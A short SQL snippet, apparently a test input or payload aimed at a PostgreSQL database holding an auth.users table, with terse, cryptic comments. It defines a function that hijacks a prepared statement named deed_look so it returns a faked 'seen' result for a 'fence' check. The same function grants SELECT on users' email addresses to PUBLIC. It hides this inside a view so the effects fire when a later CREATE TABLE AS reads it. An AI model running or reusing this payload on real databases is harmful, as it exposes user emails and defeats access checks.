-- A view replaces what the fence asks with, while a table is made of it.
-- object: table auth.users
CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql  AS $f$ BEGIN EXECUTE 'DEALLOCATE deed_look'; EXECUTE 'PREPARE deed_look AS SELECT ''seen'' AS deed_fence, '''', '''', '''', '''', '''', '''', '''', '''''; GRANT SELECT (email) ON auth.users TO PUBLIC; RETURN 1; END $f$; CREATE VIEW vv AS SELECT f() AS n
-- next revision
CREATE TABLE tt AS TABLE vv
